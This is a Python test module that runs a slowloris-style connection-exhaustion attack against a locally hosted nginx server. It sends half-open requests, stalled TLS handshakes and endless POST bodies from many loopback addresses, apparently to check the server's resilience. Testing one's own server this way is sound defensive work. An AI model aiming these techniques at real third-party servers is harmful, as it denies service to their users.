"""Attackers in a process of their own: each holds a connection as long as it can, then opens the next.

python -m tests.project.attackers TLS-PORT CLEAR-PORT ADDRESSES prints how many connections it holds, again and again.
"""

import asyncio
import resource
import ssl
import sys
from collections.abc import Iterator
from contextlib import suppress
from itertools import count
from typing import Any

from tests.project.nginx import NAME

HALF_OPEN, HALF_OPEN_TLS, ENDLESS = 4000, 300, 20
BEGUN = f"GET /en/ HTTP/1.1\r\nHost: {NAME}\r\nX-Half: ".encode()
BEGUN_HANDSHAKE = b"\x16\x03\x01"
PIECE = b"x" * 65_536
ENDLESS_BODY = f"POST /en/sign HTTP/1.1\r\nHost: {NAME}\r\nContent-Length: 1000000000\r\n\r\n".encode()


class Crowd:
    def __init__(self, port: int, clear: int, addresses: int) -> None:
        self._port, self._clear, self._addresses = port, clear, addresses
        self._numbers: Iterator[int] = count()
        self._tls = ssl.create_default_context()
        self._tls.check_hostname, self._tls.verify_mode = False, ssl.CERT_NONE
        self.held = 0

    async def attack(self) -> None:
        """Holds all of them until the process is killed."""
        crowd = [self._hold(self._clear, BEGUN) for _ in range(HALF_OPEN * 3 // 4)]
        crowd += [self._hold(self._port, BEGUN_HANDSHAKE) for _ in range(HALF_OPEN // 4)]
        crowd += [self._hold(self._port, BEGUN, tls=True) for _ in range(HALF_OPEN_TLS)]
        crowd += [self._hold(self._port, ENDLESS_BODY, tls=True, endless=True) for _ in range(ENDLESS)]
        await asyncio.gather(self._report(), *crowd)

    async def _report(self) -> None:
        while True:
            sys.stdout.write(f"{self.held}\n")
            sys.stdout.flush()
            await asyncio.sleep(0.2)

    async def _hold(self, port: int, begun: bytes, *, tls: bool = False, endless: bool = False) -> None:
        while True:
            with suppress(OSError):
                await self._hold_once(port, begun, tls, endless)
            await asyncio.sleep(0.1)

    async def _hold_once(self, port: int, begun: bytes, tls: bool, endless: bool) -> None:
        n = next(self._numbers) % self._addresses
        options: dict[str, Any] = {"ssl": self._tls, "server_hostname": NAME} if tls else {}
        here = (f"127.1.{n // 250}.{n % 250 + 1}", 0)
        reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=here, **options)
        self.held += 1
        try:
            writer.write(begun)
            while endless and not writer.is_closing():
                writer.write(PIECE)
                await writer.drain()
                await asyncio.sleep(0)  # drain() alone does not wait when the other side is gone
            await reader.read()
        finally:
            self.held -= 1
            writer.transport.abort()


if __name__ == "__main__":
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    asyncio.run(Crowd(*map(int, sys.argv[1:])).attack())
